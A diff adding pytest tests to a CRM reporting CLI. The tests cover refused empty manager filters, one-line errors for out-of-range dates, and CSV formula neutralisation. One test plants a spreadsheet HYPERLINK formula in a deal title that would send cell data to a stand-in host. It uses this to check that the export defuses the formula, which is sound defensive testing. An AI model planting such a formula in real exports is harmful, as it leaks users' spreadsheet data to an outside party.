@@ -116,6 +116,59 @@ def test_known_filters_pass(fixture_db):
     assert out.returncode == 0, out.stderr
 
 
+@pytest.fixture
+def editable_db(fixture_db, tmp_path) -> Path:
+    db = tmp_path / "crm.duckdb"
+    db.write_bytes(fixture_db.read_bytes())
+    return db
+
+
+@pytest.mark.parametrize(("args", "message"), [
+    # Anna (1) is in department 10 only, Boris (2) in 11 (fixture_db users); user 9 (added) owns no deal
+    (("--manager", "1", "--department", "11"),
+     "--manager 1 is not in --department 11 (or below): that filter selects nobody"),
+    (("--manager", "9"), "--manager 9: user 9 owns no deals in {db}"),
+])
+def test_a_manager_filter_that_selects_nobody_is_refused(editable_db, args, message):
+    import duckdb
+
+    with duckdb.connect(str(editable_db)) as con:
+        con.execute("insert into users (id, active, name, last_name, uf_department) "
+                    "values (9, true, 'Dmitry', 'Admin', [10])")
+    # was an empty table (exit 0): "nothing to do" for a combination that selects nobody
+    out = cli("stale_deals", "--db", str(editable_db), "--as-of", "2026-11-20T18:00", *args)
+    assert out.returncode == 2 and out.stdout == ""
+    assert out.stderr == "error: " + message.format(db=editable_db) + "\n"
+
+
+@pytest.mark.parametrize(("args", "message"), [
+    (("--month", "9999-12"), "--month 9999-12-01 is out of range (years 1990-2200)"),
+    (("--as-of", "9999-12-31T00:00"), "--as-of 9999-12-31T00:00:00 is out of range (years 1990-2200)"),
+    (("--to", "9999-12-31"), "--to 9999-12-31 is out of range (years 1990-2200)"),
+    (("--from", "0001-01-01"), "--from 0001-01-01 is out of range (years 1990-2200)"),
+])
+def test_moments_out_of_range_are_one_line(fixture_db, args, message):
+    # were tracebacks (ValueError / OverflowError deep in the date arithmetic), exit 1
+    out = cli("conversion", "--db", str(fixture_db), *args)
+    assert (out.returncode, out.stdout, out.stderr) == (2, "", f"error: {message}\n")
+
+
+def test_csv_neutralises_formulas_and_table_shows_dashes(editable_db):
+    import duckdb
+
+    db = editable_db
+    with duckdb.connect(str(db)) as con:  # any CRM user can title a deal like this
+        con.execute("""update deals set title = '=HYPERLINK("http://x/?leak="&A1,"x")' where id = 101""")
+    out = cli("overaged_deals", "--db", str(db), "--as-of", "2026-11-20T18:00", "--format", "csv")
+    assert out.returncode == 0, out.stderr
+    titles = [r["deal_title"] for r in csv.DictReader(io.StringIO(out.stdout))]
+    assert """'=HYPERLINK("http://x/?leak="&A1,"x")""" in titles
+    # the backlog's latest_item_at is empty for every rule but the two activity rules
+    table = cli("backlog", "--db", str(db), "--as-of", "2026-11-20T18:00")
+    assert table.returncode == 0, table.stderr
+    assert "None" not in table.stdout and "NaN" not in table.stdout and "—" in table.stdout
+
+
 def test_from_after_to_is_refused(fixture_db):
     out = cli("conversion", "--db", str(fixture_db), "--from", "2026-11-30", "--to", "2026-11-01")
     assert out.returncode == 2
